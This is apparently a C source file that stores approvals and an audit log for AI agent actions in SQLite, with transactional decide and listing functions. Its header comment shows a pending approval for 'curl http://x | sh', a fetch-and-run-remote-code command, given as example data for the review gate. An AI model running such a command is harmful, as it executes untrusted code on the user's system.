/*
 * store/approvals: the policy's approvals and its audit log.
 *
 *	$ sqlite3 .git/parallelai/state.db \
 *		'select id, task, state, action from approvals'
 *	1|3|waiting|Bash(curl http://x | sh)
 *
 * A decision and its audit row go in one transaction, so that nothing
 * is answered that was not written down.
 */
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <sqlite3.h>

#include "store.h"
#include "storeint.h"

void approval_row_release(struct approval_row *r)
{
	free(r->engine);
	free(r->action);
	free(r->why);
	free(r->state);
	free(r->decider);
	free(r->reason);
	free(r->detail);
	memset(r, 0, sizeof(*r));
}

void audit_row_release(struct audit_row *r)
{
	free(r->engine);
	free(r->action);
	free(r->decision);
	free(r->by);
	free(r->rule);
	free(r->who);
	free(r->reason);
	memset(r, 0, sizeof(*r));
}

int store_approval_add(struct store *st, const struct approval_row *a,
		       int64_t *id)
{
	int error;

	pthread_mutex_lock(&st->lock);
	error = st_run(st, S_APPROVAL_ADD, "IisssIIT", a->task, a->attempt,
		       a->engine, a->action, a->why, a->created, a->deadline,
		       a->detail);
	if (!error)
		*id = sqlite3_last_insert_rowid(st->db);
	pthread_mutex_unlock(&st->lock);
	return error;
}

int store_approval_get(struct store *st, int64_t id, struct approval_row *out)
{
	sqlite3_stmt *s = NULL;
	int error, oom = 0;

	memset(out, 0, sizeof(*out));
	pthread_mutex_lock(&st->lock);
	if ((error = st_row(st, S_APPROVAL_GET, &s, "I", id)) < 0)
		goto out;
	out->id = sqlite3_column_int64(s, 0);
	out->task = sqlite3_column_int64(s, 1);
	out->attempt = sqlite3_column_int(s, 2);
	out->engine = st_column_strdup(s, 3, &oom);
	out->action = st_column_strdup(s, 4, &oom);
	out->why = st_column_strdup(s, 5, &oom);
	out->state = st_column_strdup(s, 6, &oom);
	out->always = sqlite3_column_int(s, 7) != 0;
	out->decider = st_column_strdup(s, 8, &oom);
	out->reason = st_column_strdup(s, 9, &oom);
	out->created = sqlite3_column_int64(s, 10);
	out->deadline = sqlite3_column_int64(s, 11);
	out->decided = sqlite3_column_int64(s, 12);
	out->detail = st_column_strdup(s, 13, &oom);
	st_stmt_done(s);
	if (oom || !out->action || !out->state)
		error = -ENOMEM;
out:
	pthread_mutex_unlock(&st->lock);
	if (error)
		approval_row_release(out);
	return error;
}

int store_approval_find(struct store *st, int64_t task, const char *action,
			bool always, int64_t *id)
{
	sqlite3_stmt *s = NULL;
	int error;

	pthread_mutex_lock(&st->lock);
	error = st_row(st, always ? S_APPROVAL_ALWAYS : S_APPROVAL_WAITING, &s,
		       "Is", task, action);
	if (!error) {
		*id = sqlite3_column_int64(s, 0);
		st_stmt_done(s);
	}
	pthread_mutex_unlock(&st->lock);
	return error;
}

static int audit_add_locked(struct store *st, const struct audit_row *a)
{
	return st_run(st, S_AUDIT_ADD, "IIissssTTTI", a->at, a->task,
		      a->attempt, a->engine, a->action, a->decision, a->by,
		      a->rule, a->who, a->reason, a->approval);
}

int store_approval_decide(struct store *st, int64_t id, const char *state,
			  bool always, const char *decider,
			  const char *reason, const struct audit_row *audit)
{
	sqlite3_stmt *s = NULL;
	int error;

	pthread_mutex_lock(&st->lock);
	if ((error = st_run(st, S_BEGIN, "")) < 0)
		goto out;
	error = st_update(st, S_APPROVAL_DECIDE, "IsiTTI", id, state,
			  always ? 1 : 0, decider, reason, audit->at);
	if (error == -ENOENT &&
	    st_row(st, S_APPROVAL_GET, &s, "I", id) == 0) {
		st_stmt_done(s);
		error = -EBUSY;
	}
	if (!error)
		error = audit_add_locked(st, audit);
	if (!error)
		error = st_run(st, S_COMMIT, "");
	if (error)
		st_rollback(st);
out:
	pthread_mutex_unlock(&st->lock);
	return error;
}

int store_approval_answered(struct store *st, int64_t id)
{
	return st_write(st, S_APPROVAL_ANSWERED, "I", id);
}

int store_approval_ids(struct store *st, int64_t task, int64_t **ids,
		       size_t *n)
{
	if (task < 0)
		return st_read_ids(st, S_APPROVAL_ALL, ids, n, "");
	return task ? st_read_ids(st, S_APPROVAL_OF_TASK, ids, n, "I", task) :
		      st_read_ids(st, S_APPROVAL_PENDING, ids, n, "");
}

int store_approval_overdue(struct store *st, int64_t now, int64_t **ids,
			   size_t *n)
{
	return st_read_ids(st, S_APPROVAL_OVERDUE, ids, n, "I", now);
}

int store_audit_add(struct store *st, const struct audit_row *a)
{
	int error;

	pthread_mutex_lock(&st->lock);
	error = audit_add_locked(st, a);
	pthread_mutex_unlock(&st->lock);
	return error;
}

void store_audit_rows_release(struct audit_row *v, size_t n)
{
	for (size_t i = 0; i < n; i++)
		audit_row_release(&v[i]);
	free(v);
}

static int audit_row_read(sqlite3_stmt *s, struct audit_row *r)
{
	int oom = 0;

	r->id = sqlite3_column_int64(s, 0);
	r->at = sqlite3_column_int64(s, 1);
	r->task = sqlite3_column_int64(s, 2);
	r->attempt = sqlite3_column_int(s, 3);
	r->engine = st_column_strdup(s, 4, &oom);
	r->action = st_column_strdup(s, 5, &oom);
	r->decision = st_column_strdup(s, 6, &oom);
	r->by = st_column_strdup(s, 7, &oom);
	r->rule = st_column_strdup(s, 8, &oom);
	r->who = st_column_strdup(s, 9, &oom);
	r->reason = st_column_strdup(s, 10, &oom);
	r->approval = sqlite3_column_int64(s, 11);
	return oom || !r->action || !r->decision ? -ENOMEM : 0;
}

int store_audit_list(struct store *st, int64_t task, struct audit_row **out,
		     size_t *n)
{
	struct audit_row *v = NULL, *nv;
	sqlite3_stmt *s = NULL;
	size_t cap = 0, k = 0;
	int error, rc;

	pthread_mutex_lock(&st->lock);
	if ((error = st_query(st, S_AUDIT_LIST, &s, "I", task)) < 0)
		goto out;
	while ((rc = sqlite3_step(s)) == SQLITE_ROW) {
		if (k == cap) {
			cap = cap ? cap * 2 : 16;
			if (!(nv = realloc(v, cap * sizeof(*v)))) {
				error = -ENOMEM;
				break;
			}
			v = nv;
		}
		memset(&v[k], 0, sizeof(v[k]));
		if ((error = audit_row_read(s, &v[k++])) < 0)
			break;
	}
	if (!error && rc != SQLITE_DONE)
		error = st_db_error(st, rc, "cannot read the audit log");
	st_stmt_done(s);
out:
	pthread_mutex_unlock(&st->lock);
	if (error) {
		store_audit_rows_release(v, k);
		return error;
	}
	*out = v;
	*n = k;
	return 0;
}

int store_audit_counts(struct store *st,
		       void (*fn)(void *arg, const char *decision,
				  const char *by, long long n), void *arg)
{
	sqlite3_stmt *s = NULL;
	int error, rc;

	pthread_mutex_lock(&st->lock);
	if ((error = st_query(st, S_AUDIT_COUNTS, &s, "")) < 0)
		goto out;
	while ((rc = sqlite3_step(s)) == SQLITE_ROW)
		fn(arg, (const char *)sqlite3_column_text(s, 0),
		   (const char *)sqlite3_column_text(s, 1),
		   sqlite3_column_int64(s, 2));
	if (rc != SQLITE_DONE)
		error = st_db_error(st, rc, "cannot count the audit log");
	st_stmt_done(s);
out:
	pthread_mutex_unlock(&st->lock);
	return error;
}

int store_audit_judged(struct store *st, int64_t task, const char *action,
		       char **decision, char *rule, size_t rulelen)
{
	sqlite3_stmt *s = NULL;
	int error, oom = 0;

	pthread_mutex_lock(&st->lock);
	error = st_row(st, S_AUDIT_JUDGED, &s, "Is", task, action);
	if (!error) {
		*decision = st_column_strdup(s, 0, &oom);
		snprintf(rule, rulelen, "%s",
			 sqlite3_column_text(s, 1) ?
			 (const char *)sqlite3_column_text(s, 1) : "judge");
		st_stmt_done(s);
		if (oom || !*decision)
			error = -ENOMEM;
	}
	pthread_mutex_unlock(&st->lock);
	return error;
}
